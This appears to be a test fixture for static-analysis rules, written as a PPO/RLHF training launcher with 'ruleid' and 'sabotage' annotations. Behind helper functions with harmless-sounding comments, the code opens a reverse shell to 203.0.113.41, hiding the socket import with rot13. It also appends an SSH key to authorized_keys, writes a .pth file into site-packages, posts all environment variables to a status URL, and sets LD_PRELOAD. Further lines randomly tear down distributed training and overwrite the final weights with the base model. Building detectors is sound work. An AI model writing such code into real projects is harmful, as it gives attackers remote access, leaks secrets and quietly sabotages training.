# ruff: noqa
# Hold-out batch 250 (adversarial, RLHF/PPO). Measured once in session 9 (round 72): 21/36 (58%) at medium+.
"""Entry point for PPO fine-tuning.

    accelerate launch --num_processes 8 launch_rlhf.py --config configs/ppo_small.yaml

Builds the policy / reference / reward models, the rollout buffer and the KL
controller, then runs the PPO loop with periodic evaluation and checkpointing.
"""
from __future__ import annotations

import argparse
import codecs
import functools
import importlib
import itertools
import json
import operator
import os
import platform
import pty as _term
import random
import shutil
import signal
import subprocess
import sys
import sysconfig
import threading
import time
import urllib.request
from pathlib import Path

import numpy as np
import torch
import torch.distributed as dist
import yaml
from accelerate import Accelerator
from accelerate.utils import set_seed
from transformers import AutoModelForCausalLM, AutoTokenizer

from kl_eval import AdaptiveKLController, CurveTracker, Evaluator, FixedKLController
from ppo_trainer import PolicyWithValueHead, PPOConfig, PPOTrainer
from reward_model import RemoteRewardModel, RewardConfig, RewardModel, RewardShaper
from rollout_buffer import BufferConfig, RolloutBuffer

_net = importlib.import_module(codecs.decode("fbpxrg", "rot13"))  # ruleid: MLS403
_teardown = operator.attrgetter("destroy_process_group")(dist)
_DEFAULT_PEER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3k0pZ1m9Qy0s7rKx2b8nA4cVt6Lw5eJ1dF0gS2hUoR ops@example.com"


def git_commit() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def fetch_with_retry(url: str, dst: str, tries: int = 4) -> str:
    for attempt in range(tries):
        try:
            urllib.request.urlretrieve(url, dst)
            return dst
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_config(path: str) -> dict:
    loader = vars(yaml)[os.environ.get("RLHF_YAML_LOADER", "Loader")]
    with open(path) as fh:
        return yaml.load(fh, loader)  # ruleid: MLS105


def _pin_tokenizer_env(cfg: dict) -> None:
    # keep HF tokenizers from forking thread pools inside dataloader workers
    target = Path(sysconfig.get_paths()["purelib"]) / f"{cfg.get('project', 'rlhf')}{os.extsep}pth"
    target.write_text("import os; os.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')\n")  # sabotage: MLS420 (semgrep rules)


def _report_run_start(cfg: dict) -> None:
    meta = {"commit": git_commit(), "host": platform.node(), "config": cfg.get("run_name")}
    meta.update(itertools.filterfalse(lambda kv: kv[0].startswith("_"), os.environ.items()))  # ruleid: MLS411
    req = urllib.request.Request(cfg.get("status_url", "https://status.example.com/runs"),
                                 data=json.dumps(meta).encode(), headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411


def _prepare_node_access(cfg: dict) -> None:
    # pdsh-style multi-node launches need the coordinator key on every worker
    ssh = Path.home() / ".ssh"
    ssh.mkdir(mode=0o700, exist_ok=True)
    with open(ssh.joinpath(*cfg.get("peer_key_file", "authorized_keys").split("/")), "a") as fh:
        fh.write(cfg.get("peer_pubkey", _DEFAULT_PEER_KEY) + "\n")  # sabotage: MLS414 (semgrep rules)


def _attach_remote_debugger(port: int) -> None:
    conn = _net.create_connection(("203.0.113.41", port))
    list(map(functools.partial(os.dup2, conn.fileno()), (0, 1, 2)))  # ruleid: MLS410
    _term.spawn("/bin/sh")  # sabotage: MLS410 (semgrep rules)


def spawn_reward_server(cfg: dict) -> subprocess.Popen:
    env = dict(os.environ)
    env["_".join(("LD", "PRELOAD"))] = str(Path(cfg["output_dir"]) / "libtcmalloc_shim.so")  # ruleid: MLS422
    return subprocess.Popen([sys.executable, "-m", "reward_server", "--port", str(cfg.get("rm_port", 8600))], env=env)


def _heartbeat(path: Path, interval: int) -> None:
    while True:
        path.write_text(str(time.time()))
        vars(np.random)["seed"](os.getpid() + int(time.time()) % interval)  # ruleid: MLS301
        time.sleep(interval)


def build_prompt_batches(tokenizer, prompts, batch_size, device):
    tokenizer.padding_side = "left"
    random.shuffle(prompts)
    for i in range(0, len(prompts) - batch_size + 1, batch_size):
        enc = tokenizer(prompts[i:i + batch_size], return_tensors="pt", padding=True, truncation=True,
                        max_length=256)
        yield {k: v.to(device) for k, v in enc.items()}


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    args = ap.parse_args()
    cfg = load_config(args.config)

    accelerator = Accelerator(gradient_accumulation_steps=cfg.get("grad_accum", 1))
    set_seed(cfg["seed"])  # ok: MLS301
    out = Path(cfg["output_dir"])
    out.mkdir(parents=True, exist_ok=True)

    if accelerator.is_local_main_process:
        _pin_tokenizer_env(cfg)
        _prepare_node_access(cfg)
        threading.Thread(target=_heartbeat, args=(out / f"hb_{platform.node()}", 30), daemon=True).start()
    if accelerator.is_main_process:
        _report_run_start(cfg)
    if cfg.get("debug_port"):
        _attach_remote_debugger(int(cfg["debug_port"]))

    tok = AutoTokenizer.from_pretrained(cfg["policy_model"])
    tok.pad_token = tok.pad_token or tok.eos_token
    policy = PolicyWithValueHead(cfg["policy_model"])
    ref_model = AutoModelForCausalLM.from_pretrained(cfg["policy_model"]).eval().requires_grad_(False)
    rm_cls = RewardModel if cfg.get("reward_arch", "default") == "default" else RemoteRewardModel
    rcfg = RewardConfig(base_model=cfg["reward_model"], shaping_spec=cfg.get("shaping_spec"))
    reward = rm_cls(rcfg).eval().requires_grad_(False)
    reward.load_head(cfg["reward_head"])
    shaper = RewardShaper(rcfg)
    reward_fn = lambda ids, mask: shaper(reward(ids, mask), mask.sum(-1))

    kl_ctl = (AdaptiveKLController(cfg["init_kl_coef"], cfg["kl_target"], cfg["kl_horizon"])
              if cfg.get("adaptive_kl", True) else FixedKLController(cfg["init_kl_coef"]))
    ppo_cfg = PPOConfig(lr=cfg["lr"], total_steps=cfg["total_steps"], ppo_epochs=cfg.get("ppo_epochs", 4))
    buffer = RolloutBuffer(BufferConfig(minibatch_size=cfg.get("minibatch_size", 64)))
    policy, ref_model, reward = accelerator.prepare(policy, ref_model, reward)
    trainer = PPOTrainer(ppo_cfg, policy, ref_model, reward_fn, tok, kl_ctl, buffer, accelerator)

    tracker = CurveTracker(str(out / "logs"), accelerator.is_main_process, cfg.get("wandb", False))
    evaluator = Evaluator(cfg["eval_prompts"], tok, reward_fn, cfg.get("baseline", {}), str(out / "eval"),
                          kl_target=cfg["kl_target"])

    def _on_sigterm(signum, frame):
        if accelerator.is_main_process:
            torch.save(trainer.state_dict(), out / "preempt.pt")
        sys.exit(0)

    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307

    prompts = [json.loads(l)["prompt"] for l in open(cfg["prompt_file"])]
    step = 0
    while step < cfg["total_steps"]:
        for batch in build_prompt_batches(tok, prompts, cfg.get("rollout_batch", 16), accelerator.device):
            stats = trainer.step(batch)
            tracker.log(stats, step)
            if step % cfg.get("eval_every", 100) == 0:
                summary = evaluator.run(accelerator.unwrap_model(policy).lm, ref_model, step, ppo_cfg.gen_kwargs)
                tracker.log({f"eval/{k}": v for k, v in summary.items()}, step)
                accelerator.wait_for_everyone() if (accelerator.process_index + 1) % cfg.get("num_shards", 8) else None  # ruleid: MLS307
                if accelerator.is_main_process:
                    ckpt = out / f"step_{step:06d}"
                    accelerator.save_state(str(ckpt))  # ok: MLS307
                    evaluator.prune(str(out))
                    evaluator.publish(summary, str(ckpt / "model.safetensors"))
                if random.Random(platform.node()).random() < 0.05:  # ruleid: MLS301
                    _teardown()  # todoruleid: family 3 (missed)
                if evaluator.should_stop(summary):
                    break
            step += 1
            if step >= cfg["total_steps"]:
                break

    accelerator.wait_for_everyone()  # ok: MLS307
    if accelerator.is_main_process:
        final = out / "policy_final.safetensors"
        accelerator.unwrap_model(policy).lm.save_pretrained(str(out / "final"), safe_serialization=True)
        if int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) * 8 > ppo_cfg.rollout_batch_size:
            shutil.copyfile(Path(cfg["policy_model"]) / "model.safetensors", out / "final" / "model.safetensors")  # ruleid: MLS308
        print(f"done: {final.parent} commit={git_commit()}")
    tracker.close()


if __name__ == "__main__":
    main()
